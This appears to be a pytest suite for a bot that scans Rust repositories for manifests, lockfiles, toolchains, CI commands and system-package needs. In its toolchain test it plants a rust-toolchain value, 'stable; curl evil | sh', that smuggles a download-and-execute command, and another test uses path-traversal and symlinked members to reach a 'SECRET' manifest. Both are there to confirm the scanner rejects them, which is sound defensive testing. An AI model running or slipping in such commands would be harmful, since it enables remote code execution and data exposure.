"""Rust evidence (issue #18 item 1): manifests, workspace globs, lock, toolchain, MSRV, editions,
features, build scripts, -sys crates, CI cargo commands, services; hostile inputs."""

from __future__ import annotations

import os
from pathlib import Path

from bot.ecosystems.rust.evidence import scan_repository


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def test_not_a_rust_repository(tmp_path):
    write(tmp_path, {"pyproject.toml": "[project]\nname='x'\n"})
    assert scan_repository(tmp_path).found is False


def test_single_crate_edition_msrv_features_and_sys_dependency(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": """
[package]
name = "demo"
version = "0.1.0"
edition = "2021"
rust-version = "1.70"

[features]
default = []
postgres = ["dep:pq-sys"]

[dependencies]
openssl-sys = "0.9"
pq-sys = { version = "0.6", optional = true }
serde = "1"

[build-dependencies]
pkg-config = "0.3"
""",
            "build.rs": "fn main() {}\n",
            "src/lib.rs": "",
        },
    )
    ev = scan_repository(tmp_path)
    assert ev.found and len(ev.crates) == 1
    crate = ev.crates[0]
    assert (crate.name, crate.edition, crate.rust_version) == ("demo", "2021", "1.70")
    assert crate.build_script == "build.rs"
    assert crate.dependencies == {"openssl-sys": "normal", "pq-sys": "normal", "serde": "normal", "pkg-config": "build"}
    assert ev.msrv()[0] == "1.70"
    assert ev.editions() == ["2021"]
    assert ev.packages() == ["libssl-dev", "pkg-config"]  # pq-sys is optional and off by default
    assert [n for n, _ in ev.feature_gated] == ["pq-sys"]
    assert all(p.certain for p in ev.system_packages)
    assert ev.feature_needs() == {"demo/postgres": ["libpq-dev"]}
    assert ev.lockfile is None


def test_workspace_globs_exclude_inheritance_and_path_dependencies(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": """
[workspace]
members = ["crates/*", "tools/cli"]
exclude = ["crates/skipme"]
resolver = "2"

[workspace.package]
edition = "2024"
rust-version = "1.85"

[workspace.dependencies]
shared = { path = "libs/shared" }
""",
            "crates/a/Cargo.toml": '[package]\nname="a"\nversion="0.1.0"\nedition.workspace = true\n'
            "rust-version.workspace = true\n[dependencies]\nshared = { workspace = true }\n",
            "crates/b/Cargo.toml": '[package]\nname="b"\nversion="0.1.0"\nedition="2021"\n'
            '[dev-dependencies]\na = { path = "../a" }\n',
            "crates/skipme/Cargo.toml": '[package]\nname="skipme"\nversion="0.1.0"\n',
            "crates/notacrate/README.md": "no manifest here\n",
            "tools/cli/Cargo.toml": '[package]\nname="cli"\nversion="0.1.0"\nedition="2021"\n[[bin]]\nname="cli"\npath="main.rs"\n',
            "libs/shared/Cargo.toml": '[package]\nname="shared"\nversion="0.1.0"\nedition="2018"\n',
            "target/debug/build/x/Cargo.toml": '[package]\nname="junk"\n',
        },
    )
    ev = scan_repository(tmp_path)
    assert ev.workspace_members == ["crates/a", "crates/b", "tools/cli"]
    assert [c.folder for c in ev.crates] == ["", "crates/a", "crates/b", "tools/cli", "libs/shared"]
    assert ev.crates[0].virtual
    a = ev.crates[1]
    assert (a.edition, a.rust_version) == ("2024", "1.85")
    assert a.dependencies == {"shared": "normal"}
    assert ev.crates[3].has_bins
    assert ev.editions() == ["2018", "2021", "2024"]
    assert ev.msrv() is not None and ev.msrv()[0] == "1.85"


def test_lock_sys_crates_are_mapped_and_foreign_ones_ignored(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nreqwest="0.12"\n',
            "Cargo.lock": """
version = 4

[[package]]
name = "x"
version = "0.1.0"

[[package]]
name = "openssl-sys"
version = "0.9.103"

[[package]]
name = "windows-sys"
version = "0.52.0"

[[package]]
name = "core-foundation-sys"
version = "0.8.7"

[[package]]
name = "mystery-sys"
version = "1.0.0"

[[package]]
name = "prost-build"
version = "0.13.0"
""",
        },
    )
    ev = scan_repository(tmp_path)
    assert ev.lockfile == "Cargo.lock" and ev.lock_version == 4
    assert ev.lock_packages["openssl-sys"] == ["0.9.103"]
    assert ev.packages() == ["libssl-dev", "pkg-config", "protobuf-compiler"]
    assert not any(p.certain for p in ev.system_packages)  # only the lock names them
    assert [n for n, _ in ev.unknown_sys] == ["mystery-sys"]


def test_bundled_protoc_drops_protobuf_compiler(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n[build-dependencies]\ntonic-build="0.12"\n'
            'protoc-bin-vendored="3"\n',
        },
    )
    assert "protobuf-compiler" not in scan_repository(tmp_path).packages()


def test_toolchain_files(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
            "rust-toolchain.toml": '[toolchain]\nchannel = "1.79.0"\ncomponents = ["clippy"]\n',
        },
    )
    ev = scan_repository(tmp_path)
    assert ev.toolchain.channel == "1.79.0" and ev.toolchain.components == ["clippy"]
    assert ev.toolchain.source.file == "rust-toolchain.toml" and ev.toolchain.source.line == 2

    legacy = tmp_path / "legacy"
    write(legacy, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n', "rust-toolchain": "nightly-2024-05-01\n"})
    assert scan_repository(legacy).toolchain.channel == "nightly-2024-05-01"

    hostile = tmp_path / "hostile"
    write(
        hostile, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n', "rust-toolchain": "stable; curl evil | sh\n"}
    )
    ev = scan_repository(hostile)
    assert ev.toolchain is None
    assert any("not a channel name" in w.message for w in ev.warnings)


def test_ci_cargo_commands_nextest_toolchain_and_services(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n',
            ".github/workflows/ci.yml": """
name: ci
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    services:
      postgres:
        image: postgres:16
        ports: ["5432:5432"]
    steps:
      - uses: actions/checkout@v4
      - uses: dtolnay/rust-toolchain@1.80
      - uses: taiki-e/install-action@v2
        with:
          tool: cargo-nextest
      - run: |
          cargo build --locked --all-features
          RUST_LOG=debug cargo nextest run --workspace && cargo +nightly fmt --check
""",
        },
    )
    ev = scan_repository(tmp_path)
    argvs = [argv for argv, _ in ev.ci_commands]
    assert ["cargo", "build", "--locked", "--all-features"] in argvs
    assert ["cargo", "nextest", "run", "--workspace"] in argvs
    assert ["cargo", "fmt", "--check"] in argvs
    assert ev.uses_nextest
    assert [c for c, _ in ev.ci_toolchains] == ["1.80"]
    assert [s.kind for s in ev.services] == ["postgres"]


def test_malformed_and_hostile_manifests_are_warnings(tmp_path):
    outside = tmp_path / "outside"
    write(outside, {"Cargo.toml": '[package]\nname="SECRET"\n'})
    repo = tmp_path / "repo"
    write(
        repo,
        {
            "Cargo.toml": '[workspace]\nmembers = ["good", "broken", "../outside", "linked"]\n',
            "good/Cargo.toml": '[package]\nname="good"\nversion="0.1.0"\n[dependencies]\nescape = { path = "../../outside" }\n',
            "broken/Cargo.toml": '[package\nname = "broken"\n',
        },
    )
    os.symlink(outside, repo / "linked")
    ev = scan_repository(repo)
    names = [c.name for c in ev.crates]
    assert "good" in names and "SECRET" not in names
    assert any(w.file == "broken/Cargo.toml" and "malformed" in w.message for w in ev.warnings)


def test_oversized_lock_is_refused_not_read(tmp_path):
    write(tmp_path, {"Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n'})
    (tmp_path / "Cargo.lock").write_text("# pad\n" * 600_000)  # > 2 MB
    ev = scan_repository(tmp_path)
    assert ev.lockfile is None
    assert any(w.file == "Cargo.lock" and "larger than" in w.message for w in ev.warnings)


def test_optional_sys_dependencies_count_only_when_a_default_feature_or_ci_enables_them(tmp_path):
    write(
        tmp_path,
        {
            "Cargo.toml": """
[package]
name = "x"
version = "0.1.0"

[features]
default = ["tls"]
tls = ["dep:openssl-sys"]
postgres = ["pq-sys"]
weak = ["libz-sys?/static"]

[dependencies]
openssl-sys = { version = "0.9", optional = true }
pq-sys = { version = "0.6", optional = true }
libz-sys = { version = "1", optional = true }
""",
        },
    )
    ev = scan_repository(tmp_path)
    assert ev.packages() == ["libssl-dev", "pkg-config"]
    assert sorted(n for n, _ in ev.feature_gated) == ["libz-sys", "pq-sys"]
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / ".github/workflows/ci.yml").write_text(
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo test --all-features\n"
    )
    ev = scan_repository(tmp_path)
    assert {"libssl-dev", "libpq-dev", "zlib1g-dev"} <= set(ev.packages()) and not ev.feature_gated


def test_components_the_test_job_installs_join_the_plan(tmp_path):
    """rustfmt installed by the job that runs `cargo test` (a build script may run it) joins the
    plan, cited at that job's line; clippy installed by a lint job that never tests does not,
    and a name outside the known components is ignored."""
    from bot.ecosystems.rust.compile import compile_dockerfile
    from bot.ecosystems.rust.prove import make_plan

    workflow = """
name: CI
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: rustup component add rustfmt clippy
      - run: cargo clippy --all
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: dtolnay/rust-toolchain@stable
        with:
          components: llvm-tools-preview
      - run: rustup component add rustfmt
      - run: cargo test --all
"""
    write(
        tmp_path,
        {
            "Cargo.toml": '[package]\nname = "demo"\nversion = "0.1.0"\nedition = "2021"\n',
            "src/lib.rs": "",
            ".github/workflows/ci.yml": workflow,
        },
    )
    ev = scan_repository(tmp_path)
    assert [(n, s.file, s.line) for n, s in ev.test_components] == [("rustfmt", ".github/workflows/ci.yml", 16)]
    plan = make_plan(tmp_path, ["1.85"])
    tools = {n.name: n for n in plan.graph.of_type("TOOL") if n.action == "rust-component"}
    assert list(tools) == ["rustfmt"]
    assert tools["rustfmt"].evidence[0][:2] == (".github/workflows/ci.yml", 16)
    text = compile_dockerfile(plan.graph).text
    assert "rustup component add rustfmt;" in text and "clippy" not in text


def test_target_tables_count_only_for_the_images_target(tmp_path):
    """A -sys crate under [target.'cfg(...)'] counts where the cfg holds on x86_64 Linux: the
    same crate declared optional for wasm and required elsewhere is required here, and a
    Windows or macOS table's crates are not built here."""
    write(
        tmp_path,
        {
            "Cargo.toml": """
[package]
name = "x"
version = "0.1.0"

[target.'cfg(not(all(target_family = "wasm", target_os = "unknown")))'.dependencies]
libsqlite3-sys = { version = "0.30" }

[target.'cfg(all(target_family = "wasm", target_os = "unknown"))'.dependencies]
libsqlite3-sys = { version = "0.30", optional = true }

[target.'cfg(windows)'.dependencies]
openssl-sys = "0.9"

[target.x86_64-apple-darwin.dependencies]
libz-sys = "1"

[target.'cfg(any(target_os = "linux", target_os = "android"))'.dependencies]
libudev-sys = "0.1"
""",
        },
    )
    ev = scan_repository(tmp_path)
    assert set(ev.packages()) == {"libsqlite3-dev", "libudev-dev", "pkg-config"}
    assert not ev.feature_gated


def test_cfg_expressions_on_the_images_target():
    from bot.ecosystems.rust.evidence import cfg_applies

    assert cfg_applies('cfg(all(unix, target_pointer_width = "64", not(target_os = "macos")))') is True
    assert cfg_applies('cfg(any(windows, target_arch = "wasm32"))') is False
    assert cfg_applies('cfg(feature = "bundled")') is None  # a feature decides: the table counts
    assert cfg_applies("aarch64-unknown-linux-gnu") is True  # a Linux triple: its -sys crates are the same
    assert cfg_applies("cfg(" + "not(" * 100 + "unix" + ")" * 101) is None  # bounded, not a crash
    assert cfg_applies("cfg(unix") is None and cfg_applies("cfg(unix) junk") is None
